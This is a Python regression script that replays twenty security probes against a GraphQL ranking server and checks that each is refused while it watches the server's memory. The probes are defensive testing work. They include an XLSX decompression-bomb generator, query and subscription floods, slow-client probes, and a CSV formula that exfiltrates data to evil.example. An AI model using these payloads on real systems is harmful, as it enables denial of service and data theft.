#!/usr/bin/env python3
"""Replays the probes of issue 13 ("Hardening, round two") against a running egov-rank server,
while sampling the server's resident memory (VmRSS) every 50 ms.

Usage: python3 security_probes.py URL SERVER_PID EDITOR_TOKEN VIEWER_TOKEN BACKEND

ONLY=2,7 runs only those probes; VERBOSE=1 prints each read timed during the dry run.
Prints one line per probe (what was sent, what came back, how long it took, OK or FAIL) and
the server's RSS before, at its peak and after. Exits 1 when a probe fails or the peak RSS is
300 MiB or more (RSS_BUDGET_MIB). Standard library only. Run by security-replay.sh, which
starts the servers; the policy flags and SIGTERM are probed there.
"""
import base64
import hashlib
import http.client
import io
import json
import os
import socket
import struct
import sys
import threading
import time
import urllib.parse
import zipfile
import zlib

url, pid, editor, viewer, backend = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
parsed = urllib.parse.urlparse(url)
HOST, PORT = parsed.hostname, parsed.port
BUDGET_MIB = float(os.environ.get("RSS_BUDGET_MIB", "300"))
results = []


# --- memory -------------------------------------------------------------------------------

def rss_mib():
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


class Sampler(threading.Thread):
    def __init__(self):
        super().__init__(daemon=True)
        self.peak = 0.0
        self.running = True

    def run(self):
        while self.running:
            try:
                self.peak = max(self.peak, rss_mib())
            except OSError:
                return
            time.sleep(0.05)


# --- HTTP ---------------------------------------------------------------------------------

def request(method, path, body=None, headers=None, timeout=120):
    connection = http.client.HTTPConnection(HOST, PORT, timeout=timeout)
    connection.request(method, path, body=body, headers=headers or {})
    response = connection.getresponse()
    data = response.read()
    connection.close()
    return response.status, dict(response.getheaders()), data


def graphql(query, variables=None, token=None, extensions=None):
    body = {"query": query}
    if variables is not None:
        body["variables"] = variables
    if extensions is not None:
        body["extensions"] = extensions
    headers = {"content-type": "application/json"}
    if token:
        headers["authorization"] = f"Bearer {token}"
    status, _, data = request("POST", "/graphql", json.dumps(body).encode(), headers)
    return status, json.loads(data)


def code(answer):
    errors = answer.get("errors") or []
    return (errors[0].get("extensions") or {}).get("code") if errors else None


IMPORT = ("mutation ($input: ImportResultsInput!) { importResults(input: $input) "
          "{ report { rowsRead } errors { code } } }")
HEADER = ("year,tier,published_rank,agency,max_points,excluded_points,required_points,"
          "achieved_points,published_rate_percent,published_converted_score,published_level")


def persisted(query):
    return {"persistedQuery": {"version": 1, "sha256Hash": hashlib.sha256(query.encode()).hexdigest()}}


# --- WebSocket (RFC 6455, just enough for graphql-transport-ws) ---------------------------

class Socket:
    def __init__(self, token=None):
        self.sock = socket.create_connection((HOST, PORT), timeout=30)
        key = base64.b64encode(os.urandom(16)).decode()
        lines = [f"GET /graphql/ws HTTP/1.1", f"Host: {HOST}:{PORT}", "Upgrade: websocket",
                 "Connection: Upgrade", f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13",
                 "Sec-WebSocket-Protocol: graphql-transport-ws"]
        if token:
            lines.append(f"Authorization: Bearer {token}")
        self.sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        self.buffer = b""
        while b"\r\n\r\n" not in self.buffer:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("closed during the handshake")
            self.buffer += chunk
        head, self.buffer = self.buffer.split(b"\r\n\r\n", 1)
        if not head.startswith(b"HTTP/1.1 101"):
            raise ConnectionError(head.decode(errors="replace"))

    def send(self, message):
        payload = json.dumps(message).encode()
        mask = os.urandom(4)
        header = bytes([0x81])
        if len(payload) < 126:
            header += bytes([0x80 | len(payload)])
        elif len(payload) < 65536:
            header += bytes([0x80 | 126]) + struct.pack(">H", len(payload))
        else:
            header += bytes([0x80 | 127]) + struct.pack(">Q", len(payload))
        masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
        self.sock.sendall(header + mask + masked)

    def _read(self, n):
        while len(self.buffer) < n:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed")
            self.buffer += chunk
        data, self.buffer = self.buffer[:n], self.buffer[n:]
        return data

    def receive(self):
        """The next message: a dict, or {"close": code}; {"close": None} when the TCP
        connection ends without a close frame."""
        try:
            first, second = self._read(2)
            length = second & 0x7F
            if length == 126:
                length = struct.unpack(">H", self._read(2))[0]
            elif length == 127:
                length = struct.unpack(">Q", self._read(8))[0]
            payload = self._read(length)
        except (ConnectionError, OSError):
            return {"close": None}
        opcode = first & 0x0F
        if opcode == 8:
            return {"close": struct.unpack(">H", payload[:2])[0] if len(payload) >= 2 else None}
        if opcode == 1:
            return json.loads(payload)
        return self.receive()

    def init(self):
        self.send({"type": "connection_init"})
        assert self.receive()["type"] == "connection_ack"
        return self

    def close(self):
        self.sock.close()


# --- probes -------------------------------------------------------------------------------

def probe(name):
    def wrap(function):
        def run():
            only = os.environ.get("ONLY")
            if only and name.split()[0] not in only.split(","):
                return
            started = time.monotonic()
            try:
                observed, ok = function()
            except Exception as error:  # a probe that crashes is a failure, not the end
                observed, ok = f"{type(error).__name__}: {error}", False
            seconds = time.monotonic() - started
            results.append((name, observed, seconds, ok, rss_mib()))
            print(f"{'OK  ' if ok else 'FAIL'} {name:<46} {seconds:7.2f} s  "
                  f"rss {results[-1][4]:6.1f} MiB  {observed}", flush=True)
        return run
    return wrap


@probe("1 persisted mutation replayed over GET")
def persisted_mutation_over_get():
    mutation = 'mutation { publishDecision(input: {number: "99/QĐ-UBND"}) { errors { code } } }'
    graphql(mutation, extensions=persisted(mutation))
    query = urllib.parse.urlencode({"query": "", "extensions": json.dumps(persisted(mutation))})
    status, _, data = request("GET", f"/graphql?{query}", headers={"authorization": f"Bearer {editor}"})
    _, found = graphql('{ decisions { number } }')
    written = "99/QĐ-UBND" in json.dumps(found, ensure_ascii=False)
    answer = code(json.loads(data))
    return f"{status} {answer}, written: {written}", not written and (status == 405 or answer == "PERSISTED_QUERY_NOT_FOUND")


@probe("2 12 000-row dry run, reads meanwhile")
def dry_run_does_not_starve_reads():
    """A starved read waits the pool's 5 s acquire timeout and fails; on this shared 2-core
    machine a read may still take a second or two while the import runs."""
    rows = "\n".join(f"2021,district,,Huyện Probe {i:05d},100,0,100,{i % 100}.5,,," for i in range(12_000))
    answer = {}

    def dry_run():
        answer["import"] = graphql(IMPORT, {"input": {"content": f"{HEADER}\n{rows}\n", "dryRun": True}}, editor)[1]
    thread = threading.Thread(target=dry_run)
    thread.start()
    slowest, failures, reads = 0.0, 0, 0
    while thread.is_alive():
        started = time.monotonic()
        status, _, _ = request("GET", "/readyz", timeout=30)
        ready = time.monotonic() - started
        status2, read = graphql("{ ranking(year: 2020, tier: DISTRICT) { totalCount } }", token=viewer)
        if os.environ.get("VERBOSE"):
            print(f"  readyz {ready:.2f} s, read {time.monotonic() - started - ready:.2f} s", flush=True)
        slowest = max(slowest, time.monotonic() - started)
        failures += (status != 200) + (status2 != 200 or "errors" in read)
        reads += 1
        time.sleep(0.05)
    thread.join()
    dry = answer["import"]["data"]["importResults"]["report"]
    return (f"dry run read {dry and dry['rowsRead']} rows; {reads} readiness+read pairs meanwhile, "
            f"{failures} failed, slowest {slowest:.2f} s"), bool(dry) and failures == 0 and reads > 0 and slowest < 5


@probe("3 cursors past any listing")
def cursors():
    codes = [code(graphql('query ($a: String) { ranking(year: 2020, tier: DISTRICT, after: $a) { totalCount } }',
                          {"a": cursor})[1]) for cursor in ["9223372036854775807", "18446744073709551615"]]
    return f"{codes}", codes == ["BAD_USER_INPUT", "BAD_USER_INPUT"]


@probe("4 DataLoader fields over /graphql/ws")
def socket_loaders():
    ws = Socket().init()
    ws.send({"id": "1", "type": "subscribe", "payload": {"query":
             "{ ranking(year: 2020, tier: DISTRICT, first: 3) { nodes { agency { code } decision { number } "
             "history { decision { number } } movement { levelDirection } } } }"}})
    answer = ws.receive()
    ws.close()
    nodes = ((answer.get("payload") or {}).get("data") or {}).get("ranking", {}).get("nodes")
    return f"{answer.get('type')}, {len(nodes or [])} nodes, errors: {bool(answer.get('payload', {}).get('errors'))}", bool(nodes) and not answer["payload"].get("errors")


@probe("5 a revoked token's open socket")
def revoked_socket():
    admin = os.environ["ADMIN_TOKEN"]
    revocable = os.environ["REVOCABLE_TOKEN"]
    ws = Socket(revocable).init()
    ws.send({"id": "1", "type": "subscribe", "payload": {"query": "subscription { resultsChanged { year } }"}})
    time.sleep(0.3)
    graphql('mutation { revokeToken(input: {name: "revocable"}) { errors { code } } }', token=admin)
    graphql(IMPORT, {"input": {"content": f"{HEADER}\n2021,district,,UBND huyện Nam Đông,100,0,100,90,,,\n"}}, editor)
    messages = []
    while True:
        message = ws.receive()
        messages.append(message)
        if "close" in message:
            break
    ws.close()
    delivered = any(isinstance((m.get("payload") or {}).get("data"), dict) for m in messages)
    return f"events delivered: {delivered}, closed with {messages[-1]['close']}", not delivered and messages[-1]["close"] == 4403


@probe("6 50 000 subscriptions on one socket")
def many_subscriptions():
    ws = Socket().init()
    for i in range(50_000):
        ws.send({"id": str(i), "type": "subscribe", "payload": {"query": "subscription { resultsChanged { year } }"}})
    refused = 0
    while refused < 50_000 - 100:
        message = ws.receive()
        if "close" in message:
            break
        if message.get("type") == "next" and (message["payload"].get("errors") or [{}])[0].get("extensions", {}).get("code") == "TOO_MANY_SUBSCRIPTIONS":
            refused += 1
    ws.close()
    return f"{refused} refused with TOO_MANY_SUBSCRIPTIONS (100 kept)", refused == 50_000 - 100


@probe("7 directive floods (10^6, then 15 000 @skip on a field)")
def directive_flood():
    answers = []
    for count in (1_000_000, 15_000):
        query = "{ years " + "@skip(if:false) " * count + "}"
        status, _, data = request("POST", "/graphql", json.dumps({"query": query}).encode(),
                                  {"content-type": "application/json"})
        answers.append((status, len(data), code(json.loads(data))))
    return f"{answers}", all(c == "QUERY_TOO_COMPLEX" and n < 10_000 for _, n, c in answers)


def xlsx_bomb():
    """A workbook whose sharedStrings.xml unpacks to 1 GiB (deflated to about 1 MB)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                         '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                         '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                         '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="2022" sheetId="1" r:id="rId1"/></sheets></workbook>')
        archive.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                         '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
        archive.writestr("xl/worksheets/sheet1.xml", '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                         '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>')
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            chunk = b"A" * (1 << 20)
            for _ in range(1024):
                part.write(chunk)
            part.write(b"</t></si></sst>")
    return buffer.getvalue()


@probe("8 XLSX whose sharedStrings.xml unpacks to 1 GiB")
def spreadsheet_bomb():
    bomb = xlsx_bomb()
    started = time.monotonic()
    _, answer = graphql(IMPORT, {"input": {"content": base64.b64encode(bomb).decode(), "contentEncoding": "BASE64",
                                           "year": 2022, "tier": "PROVINCIAL", "dryRun": True}}, editor)
    answered = time.monotonic() - started
    return f"{len(bomb) // 1024} KiB file: {code(answer)} after {answered:.2f} s", code(answer) == "BAD_USER_INPUT" and answered < 5


@probe("9 100 anonymous persisted queries, 1 MB, then 200 kB")
def persisted_flood():
    before = rss_mib()
    codes = set()
    for i in range(100):
        query = "{ years }\n#" + f"{i:03d}" + "x" * (1 << 20)
        codes.add(code(graphql(query, extensions=persisted(query))[1]))
    for i in range(100):
        query = "{ years }\n#" + f"{i:03d}" + "x" * 200_000
        graphql(query, extensions=persisted(query))
    return f"1 MB: {sorted(map(str, codes))}; RSS {before:.1f} -> {rss_mib():.1f} MiB", codes == {"QUERY_TOO_COMPLEX"}


@probe("10 100 distinct cacheable queries, 1 MB, then 200 kB")
def cache_flood():
    before = rss_mib()
    codes = set()
    for i in range(100):
        codes.add(code(graphql("{ years }\n#" + f"{i:03d}" + "x" * (1 << 20))[1]))
    for i in range(100):
        graphql("{ years }\n#" + f"{i:03d}" + "y" * 200_000)
    return f"1 MB: {sorted(map(str, codes))}; RSS {before:.1f} -> {rss_mib():.1f} MiB", codes == {"QUERY_TOO_COMPLEX"}


@probe("11 1 000 made-up HTTP methods")
def made_up_methods():
    for i in range(1000):
        request(f"PROBE{i:04d}", "/graphql")
    _, _, metrics = request("GET", "/metrics")
    return f"/metrics {len(metrics)} bytes, PROBE labels: {b'PROBE' in metrics}", b"PROBE" not in metrics and len(metrics) < 200_000


def closed_within(stream, seconds):
    stream.settimeout(seconds)
    received = b""
    try:
        while True:
            chunk = stream.recv(4096)
            if not chunk:
                return True, received
            received += chunk
    except (socket.timeout, ConnectionError):
        return False, received


@probe("12 slow headers, idle keep-alive, slow body")
def slow_clients():
    answers = []
    started = time.monotonic()
    headers = socket.create_connection((HOST, PORT))
    headers.sendall(b"GET /healthz HTTP/1.1\r\nHost: probe\r\n")
    closed, _ = closed_within(headers, 30)
    answers.append(f"headers closed after {time.monotonic() - started:.1f} s" if closed else "headers still open at 30 s")
    started = time.monotonic()
    idle = socket.create_connection((HOST, PORT))
    idle.sendall(b"GET /healthz HTTP/1.1\r\nHost: probe\r\n\r\n")
    closed_idle, _ = closed_within(idle, 30)
    answers.append(f"idle closed after {time.monotonic() - started:.1f} s" if closed_idle else "idle still open at 30 s")
    started = time.monotonic()
    body = socket.create_connection((HOST, PORT))
    body.sendall(b"POST /graphql HTTP/1.1\r\nHost: probe\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{")
    closed_body, answer = closed_within(body, 60)
    answers.append(f"body {answer[:12].decode(errors='replace')} after {time.monotonic() - started:.1f} s" if closed_body else "body still open at 60 s")
    return "; ".join(answers), closed and closed_idle and closed_body and answer.startswith(b"HTTP/1.1 408")


@probe("13 WebSocket without connection_init")
def silent_socket():
    started = time.monotonic()
    ws = Socket()
    message = ws.receive()
    ws.close()
    return f"closed with {message.get('close')} after {time.monotonic() - started:.1f} s", message.get("close") == 4408


@probe("14 CSV export of formula names")
def csv_formulas():
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    csv = f'{HEADER}\n2022,district,,"{name.replace(chr(34), chr(34) * 2)}",100,0,100,90,,,\n'
    graphql(IMPORT, {"input": {"content": csv}}, editor)
    _, _, data = request("GET", "/export/2022/district.csv")
    text = data.decode()
    return f"cell written as {text.splitlines()[1].split(',', 2)[1][:16]}...", "'=HYPERLINK" in text and "\n1,=" not in text


@probe("15 50 000-character search")
def long_search():
    return (lambda c: (c, c == "BAD_USER_INPUT"))(code(graphql('query ($s: String) { agencies(search: $s) { totalCount } }', {"s": "x" * 50_000})[1]))


@probe("16 40 000-character and U+202E agency names")
def bad_names():
    upsert = "mutation ($input: UpsertAgencyInput!) { upsertAgency(input: $input) { errors { code } } }"
    codes = [code(graphql(upsert, {"input": {"name": name, "tier": "PROVINCIAL"}}, editor)[1])
             for name in ["S" * 40_000, "UBND huyện A\u202egnôĐ maN"]]
    return f"{codes}", codes == ["BAD_USER_INPUT", "BAD_USER_INPUT"]


@probe("17 decimals: 27 and 28")
def decimals():
    codes = [code(graphql(f"{{ ranking(year: 2020, tier: DISTRICT, first: 1) {{ nodes {{ ratePercent(decimals: {d}) }} }} }}")[1]) for d in (27, 28)]
    return f"{codes}", codes == ["BAD_USER_INPUT", "BAD_USER_INPUT"]


@probe("18 duplicated header of a table as published")
def duplicated_header():
    table = "STT;Tên đơn vị;Tổng điểm;Tổng điểm\n1;Sở Tư pháp;90;10\n"
    answer = graphql(IMPORT, {"input": {"content": table, "year": 2023, "tier": "PROVINCIAL", "dryRun": True}}, editor)[1]
    return code(answer), code(answer) == "BAD_USER_INPUT"


@probe("19 two concurrent imports, one new decision")
def concurrent_imports():
    answers = {}

    def run(key, year):
        csv = f"{HEADER},decision\n{year},district,,UBND huyện Nam Đông,100,0,100,90,,,,77/QĐ-UBND\n"
        answers[key] = code(graphql(IMPORT, {"input": {"content": csv}}, editor)[1])
    threads = [threading.Thread(target=run, args=(k, y)) for k, y in (("a", 2023), ("b", 2024))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    codes = sorted(str(c) for c in answers.values())
    return f"{codes}", "INTERNAL_SERVER_ERROR" not in codes


@probe("20 security headers on / and GraphiQL")
def security_headers():
    found = []
    for path in ["/", "/graphql"]:
        _, headers, _ = request("GET", path)
        headers = {k.lower(): v for k, v in headers.items()}
        found.append("frame-ancestors 'none'" in headers.get("content-security-policy", "")
                     and headers.get("x-content-type-options") == "nosniff")
    return f"{found}", all(found)


def main():
    sampler = Sampler()
    baseline = rss_mib()
    sampler.start()
    print(f"== {backend}: server pid {pid}, RSS at start {baseline:.1f} MiB", flush=True)
    for run in [persisted_mutation_over_get, dry_run_does_not_starve_reads, cursors, socket_loaders,
                revoked_socket, many_subscriptions, directive_flood, spreadsheet_bomb, persisted_flood,
                cache_flood, made_up_methods, slow_clients, silent_socket, csv_formulas, long_search,
                bad_names, decimals, duplicated_header, concurrent_imports, security_headers]:
        run()
    time.sleep(0.2)
    sampler.running = False
    sampler.join()
    failed = [name for name, _, _, ok, _ in results if not ok]
    print(f"== {backend}: RSS start {baseline:.1f} MiB, peak {sampler.peak:.1f} MiB, end {rss_mib():.1f} MiB; "
          f"{len(results) - len(failed)} of {len(results)} probes as expected", flush=True)
    within = sampler.peak < BUDGET_MIB
    if failed or not within:
        print(f"== {backend}: FAIL ({', '.join(failed) or 'no probe'} failed; peak RSS "
              f"{'within' if within else 'over'} {BUDGET_MIB:.0f} MiB)")
        sys.exit(1)
    print(f"== {backend}: probes OK, peak RSS {sampler.peak:.1f} MiB < {BUDGET_MIB:.0f} MiB")


main()
